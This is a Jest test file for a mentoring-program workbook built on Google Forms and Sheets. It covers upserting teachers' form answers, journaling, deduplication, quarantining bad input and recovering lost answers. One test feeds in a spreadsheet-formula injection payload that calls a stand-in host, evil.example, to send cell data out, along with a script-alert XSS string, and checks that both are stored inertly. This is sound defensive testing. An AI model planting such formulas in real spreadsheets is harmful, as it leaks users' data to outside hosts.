// The form-submit trigger on the emulator: upsert by e-mail into the banks, curator fields kept, journal before/after,
// spurious and duplicate events ignored, «Карантин» for bad answers, a busy workbook, answers without a trigger.
import * as hooks from '../../src/app/hooks';
import { processPendingAnswers } from '../../src/app/forms/process-answers';
import { getFormsStatus } from '../../src/app/forms/forms-status';
import { submitForm } from '../../tools/emulator/forms';
import { holdLock, releaseHeldLock } from '../../tools/emulator/services';
import { deleteSheetAsPerson } from '../../tools/emulator/spreadsheet';
import { setupWorkbook } from '../../src/app/setup-workbook';
import { createForm } from '../../src/app/forms/create-form';
import { bankRows, formsWorkbook, formulaCells, mentorAnswers, requestAnswers } from '../support/forms';

const MENTEES = 'Наставляемые';
const MENTORS = 'Наставники';

function journal(wb: ReturnType<typeof formsWorkbook>): Array<Record<string, unknown>> {
  return bankRows(wb, 'Журнал');
}

describe('a new teacher answers', () => {
  test('the request lands in «Наставляемые»: a new id, source «форма», status «ожидает», every field of the form', () => {
    const wb = formsWorkbook();
    const { results } = wb.submit('requests', requestAnswers({ 'Предпочитаемый наставник': 'Петрова М. И.' }), {
      respondentEmail: 'Anna.Ivanova@School.example',
    });
    expect(results.map((r) => r.status)).toEqual(['filed']);
    const [row] = bankRows(wb, MENTEES);
    expect(row).toMatchObject({
      ID: 'НЯ-0001',
      ФИО: 'Иванова Анна Сергеевна',
      Email: 'anna.ivanova@school.example',
      Должность: 'учитель',
      Предметы: 'математика',
      'Педагогический стаж, лет': 1,
      'Категория наставляемого': 'молодой специалист (стаж до 3 лет)',
      'Профессиональные запросы': 'Работа с родителями (законными представителями)',
      'Запрос своими словами': 'Дисциплина в 7 классе',
      'Желаемая форма': 'индивидуальная',
      'Желаемый наставник': 'Петрова М. И.',
      Статус: 'ожидает',
      Источник: 'форма',
    });
    expect(row!['Дата приёма на работу']).toBeInstanceOf(Date);
    expect(row!['Дата запроса']).toEqual(row!['Согласие (дата)']);
    expect(
      journal(wb).some(
        (j) => j['Что'] === 'Ответ формы: добавлен в банк' && String(j['Подробности']).includes('НЯ-0001'),
      ),
    ).toBe(true);
    expect(wb.logs.join('\n')).toContain('добавлен');
  });

  test('a mentor profile lands in «Наставники» with capacity, forms of mentoring and the date added', () => {
    const wb = formsWorkbook();
    wb.submit('mentors', mentorAnswers({ 'Формы наставничества': ['индивидуальная', 'групповая'] }), {
      respondentEmail: 'petrova@school.example',
    });
    const [row] = bankRows(wb, MENTORS);
    expect(row).toMatchObject({
      ID: 'Н-0001',
      Email: 'petrova@school.example',
      'Квалификационная категория': 'высшая',
      'Компетенции (с чем может помочь)':
        'Методика преподавания предмета; Работа с родителями (законными представителями)',
      'Вместимость, наставляемых': 2,
      'Формы наставничества': 'индивидуальная; групповая',
      'Стаж в этой школе, лет': 15,
      Статус: 'активен',
      Источник: 'форма',
    });
    expect(row!['Дата добавления']).toBeInstanceOf(Date);
  });

  test('afterBankChange hears about the new row (bank, ids, source «форма»)', () => {
    const spy = jest.spyOn(hooks, 'afterBankChange');
    try {
      const wb = formsWorkbook();
      wb.submit('requests', requestAnswers());
      expect(spy).toHaveBeenCalledWith(expect.anything(), {
        bank: 'mentees',
        kind: 'added',
        ids: ['НЯ-0001'],
        source: 'форма',
      });
    } finally {
      spy.mockRestore();
    }
  });

  test('text that looks like a formula or markup is stored as text: no cell anywhere holds a formula', () => {
    const wb = formsWorkbook();
    const payload = '=IMPORTXML("http://evil.example/?q="&A1,"//a")';
    wb.submit(
      'requests',
      requestAnswers({
        'Опишите профессиональные затруднения': payload,
        'Предпочитаемый наставник': '<script>alert(1)</script>',
      }),
    );
    const [row] = bankRows(wb, MENTEES);
    expect(row!['Запрос своими словами']).toBe(payload);
    expect(row!['Желаемый наставник']).toBe('<script>alert(1)</script>');
    expect(formulaCells(wb)).toEqual([]);
  });
});

describe('the same teacher answers again', () => {
  test('form fields are updated, the curator’s status, pair and notes are kept, «Журнал» shows before → after', () => {
    const wb = formsWorkbook();
    wb.submit('requests', requestAnswers());
    const sheet = wb.spreadsheet().getSheetByName(MENTEES)!;
    const header = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0]!.map(String);
    const col = (h: string) => header.indexOf(h) + 1;
    sheet.getRange(2, col('Статус')).setValue('в паре');
    sheet.getRange(2, col('Пара/группа')).setValue('НП-2026-001');
    sheet.getRange(2, col('Примечания')).setValue('договорились о встречах по средам');
    wb.world.clock.advance(86_400_000);
    wb.submit(
      'requests',
      requestAnswers({
        'Педагогический стаж (полных лет)': '2',
        'Преподаваемые предметы и направления': ['математика', 'информатика'],
      }),
      {
        respondentEmail: 'ANNA.IVANOVA@school.example',
      },
    );
    const rows = bankRows(wb, MENTEES);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      'Педагогический стаж, лет': 2,
      Предметы: 'математика; информатика',
      Статус: 'в паре',
      'Пара/группа': 'НП-2026-001',
      Примечания: 'договорились о встречах по средам',
      ID: 'НЯ-0001',
    });
    const entry = journal(wb).find((j) => j['Что'] === 'Ответ формы: профиль обновлён')!;
    expect(entry['Подробности']).toContain('«Педагогический стаж, лет»: 1 → 2');
    expect(entry['Подробности']).toContain('«Предметы»: математика → математика; информатика');
    expect(entry['Строки']).toBe('2');
  });

  test('an identical repeat changes nothing and says so in «Журнал»', () => {
    const wb = formsWorkbook();
    wb.submit('requests', requestAnswers());
    const before = wb.values(MENTEES);
    wb.world.clock.advance(60_000);
    wb.submit('requests', requestAnswers());
    expect(wb.values(MENTEES)).toEqual(before);
    expect(journal(wb).some((j) => j['Что'] === 'Ответ формы: повторный ответ без изменений')).toBe(true);
  });
});

describe('spurious and duplicate events (§6.4)', () => {
  test('an empty and a blank event after a real answer are ignored with a log line; nothing else is written', () => {
    const wb = formsWorkbook();
    const a = wb.submit('requests', requestAnswers(), { emptyEvent: 'empty' });
    const b = wb.submit('requests', requestAnswers(), {
      respondentEmail: 'second@school.example',
      emptyEvent: 'blank',
    });
    expect(a.results.map((r) => r.status)).toEqual(['filed', 'spurious']);
    expect(b.results.map((r) => r.status)).toEqual(['filed', 'spurious']);
    expect(bankRows(wb, MENTEES)).toHaveLength(2);
    expect(wb.logs.filter((l) => l.startsWith('Пустое событие'))).toHaveLength(2);
  });

  test('the same event delivered twice files the answer once; the second delivery logs «Повторное событие»', () => {
    const wb = formsWorkbook();
    const { results } = wb.submit('requests', requestAnswers(), { duplicateEvent: true });
    expect(results.map((r) => r.status)).toEqual(['filed', 'duplicate']);
    expect(bankRows(wb, MENTEES)).toHaveLength(1);
    expect(journal(wb).filter((j) => String(j['Что']).startsWith('Ответ формы'))).toHaveLength(1);
    expect(wb.logs.some((l) => l.startsWith('Повторное событие отправки формы (строка 2'))).toBe(true);
  });
});

describe('bad answers go to «Карантин», nothing is lost', () => {
  test('experience «пять лет», an unknown subject and a missing consent: one quarantine row with the raw answer, Russian reasons and a link', () => {
    const wb = formsWorkbook();
    const e = wb.inject('requests', {
      'Адрес электронной почты': 'nova@school.example',
      'Фамилия, имя, отчество': 'Новикова Ольга Петровна',
      Должность: 'учитель',
      'Преподаваемые предметы и направления': 'астрология',
      'Педагогический стаж (полных лет)': 'пять лет',
      'Категория наставляемого': 'молодой специалист (стаж до 3 лет)',
      'Профессиональные запросы': 'Работа с родителями (законными представителями)',
      'Желаемая форма наставничества': 'индивидуальная',
      'Согласие на участие в программе наставничества':
        'Даю согласие на участие в программе наставничества в качестве наставляемого',
    });
    expect(wb.deliver(e).status).toBe('filed');
    wb.deliver(e); // delivered twice: still one row
    expect(bankRows(wb, MENTEES)).toHaveLength(0);
    const q = bankRows(wb, 'Карантин');
    expect(q).toHaveLength(1);
    expect(q[0]).toMatchObject({
      Форма: 'Запросы педагогов',
      Email: 'nova@school.example',
      ФИО: 'Новикова Ольга Петровна',
      Статус: 'ждёт решения',
      'Строка ответа': 'Ответы на форму (1), строка 2',
    });
    const reason = String(q[0]!['Причина']);
    expect(reason).toContain('Стаж должен быть числом лет, получено: «пять лет»');
    expect(reason).toContain('Неизвестный предмет: «астрология»');
    expect(reason).toContain('Нет согласия на обработку персональных данных (152-ФЗ)');
    expect(String(q[0]!['Ответ'])).toContain('«Педагогический стаж (полных лет)»: пять лет');
    expect(String(q[0]!['Ссылка на ответ'])).toMatch(/#gid=\d+&range=A2$/);
    const [header, answer] = wb.values('Ответы на форму (1)');
    expect(answer![header!.indexOf('Педагогический стаж (полных лет)')]).toBe('пять лет');
  });

  test('a 60,000-character answer is clipped in «Карантин» (a cell holds 50,000) and kept whole in the response sheet', () => {
    const wb = formsWorkbook();
    const huge = 'я'.repeat(60_000);
    wb.deliver(
      wb.inject('requests', {
        'Адрес электронной почты': 'big@school.example',
        'Опишите профессиональные затруднения': huge,
      }),
    );
    const q = bankRows(wb, 'Карантин');
    expect(String(q[0]!['Ответ']).length).toBeLessThanOrEqual(45_000);
    expect(String(q[0]!['Ответ'])).toContain('ответ обрезан');
    expect(String(wb.values('Ответы на форму (1)')[1]!.find((v) => String(v).length === 60_000))).toBe(huge);
  });
});

describe('answers never lost: busy workbook, missing trigger', () => {
  test('a workbook busy beyond the wait: the trigger gives up with a log line; the next answer files both, oldest first', () => {
    const wb = formsWorkbook();
    holdLock(wb.world, 'document', { forMs: 10 * 60_000 });
    const first = wb.submit('requests', requestAnswers());
    expect(first.results.map((r) => r.status)).toEqual(['busy']);
    expect(wb.logs.some((l) => l.includes('будет обработан'))).toBe(true);
    releaseHeldLock(wb.world, 'document');
    expect(wb.run((ctx) => getFormsStatus(ctx)).forms[0]!.pending).toBe(1);
    const second = wb.submit('requests', requestAnswers({ 'Педагогический стаж (полных лет)': '2' }), {
      respondentEmail: 'anna.ivanova@school.example',
    });
    expect(second.results[0]!.runs[0]!.outcomes.map((o) => o.kind)).toEqual(['added', 'updated']);
    expect(bankRows(wb, MENTEES)[0]!['Педагогический стаж, лет']).toBe(2);
  });

  test('a bank sheet deleted by a person: the answer is deferred with a Russian log line, and filed once setup brings the sheet back', () => {
    const wb = formsWorkbook();
    deleteSheetAsPerson(wb.world, MENTEES);
    expect(wb.submit('requests', requestAnswers()).results[0]!.status).toBe('deferred');
    expect(wb.logs.at(-1)).toContain('Нет листа «Наставляемые»');
    wb.run((ctx) => setupWorkbook(ctx));
    expect(wb.run((ctx) => processPendingAnswers(ctx)).added).toBe(1);
    expect(bankRows(wb, MENTEES)).toHaveLength(1);
  });

  test('a response sheet deleted by a person: the form shows as «не доделана»; relinking brings every answer back and the missing one is filed', () => {
    const wb = formsWorkbook({ forms: ['requests'] });
    wb.submit('requests', requestAnswers());
    deleteSheetAsPerson(wb.world, 'Ответы на форму (1)');
    const lost = wb.submit('requests', requestAnswers(), { respondentEmail: 'while.unlinked@school.example' });
    expect(lost.results).toEqual([]);
    expect(wb.run((ctx) => getFormsStatus(ctx)).forms[0]!.state).toBe('incomplete');
    const r = wb.run((ctx) => createForm(ctx, 'requests'));
    expect([r.outcome, r.sheet]).toEqual(['resumed', 'Ответы на форму (1)']);
    expect(wb.values('Ответы на форму (1)')).toHaveLength(3);
    const filed = wb.run((ctx) => processPendingAnswers(ctx));
    expect([filed.added, filed.unchanged, filed.quarantined]).toEqual([1, 1, 0]);
    expect(bankRows(wb, MENTEES).map((row) => row.Email)).toEqual([
      'anna.ivanova@school.example',
      'while.unlinked@school.example',
    ]);
  });

  test('a lock held briefly by another operation: the trigger waits and files the answer', () => {
    const wb = formsWorkbook();
    holdLock(wb.world, 'document', { forMs: 20_000 });
    expect(wb.submit('requests', requestAnswers()).results[0]!.status).toBe('filed');
  });

  test('answers sent while the trigger was removed are filed by «Обработать ответы», which also reinstalls the trigger', () => {
    const wb = formsWorkbook();
    const ScriptApp = wb.services.ScriptApp;
    for (const t of ScriptApp.getUserTriggers(wb.spreadsheet())) ScriptApp.deleteTrigger(t);
    const s1 = submitForm(wb.world, wb.formId('requests'), requestAnswers(), { respondentEmail: 'a@school.example' });
    const s2 = submitForm(wb.world, wb.formId('mentors'), mentorAnswers(), { respondentEmail: 'm@school.example' });
    expect([s1.deliveries, s2.deliveries]).toEqual([[], []]);
    const status = wb.run((ctx) => getFormsStatus(ctx));
    expect(status.trigger.installed).toBe(false);
    // The intake forms; the monitoring questionnaires (issue 8) are registered too, not created here.
    expect(status.forms.filter((f) => f.kind === 'requests' || f.kind === 'mentors').map((f) => f.pending)).toEqual([
      1, 1,
    ]);
    const r = wb.run((ctx) => processPendingAnswers(ctx));
    expect([r.added, r.quarantined, r.remaining]).toEqual([2, 0, 0]);
    expect(wb.run((ctx) => getFormsStatus(ctx)).trigger.installed).toBe(true);
    expect(wb.run((ctx) => processPendingAnswers(ctx)).added).toBe(0);
  });
});
